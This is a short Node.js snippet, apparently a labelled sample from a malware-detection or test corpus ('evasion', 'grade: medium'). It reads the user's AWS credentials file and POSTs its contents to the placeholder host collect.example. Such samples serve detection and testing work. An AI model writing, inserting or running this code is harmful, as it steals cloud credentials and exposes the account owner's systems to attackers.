// evasion: AWS credentials posted with https.request
// grade: medium; does: credentials
const fs = require('fs'), path = require('path'), os = require('os'), https = require('https');
const data = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'));
const req = https.request({host: 'collect.example', method: 'POST'});
req.end(data);
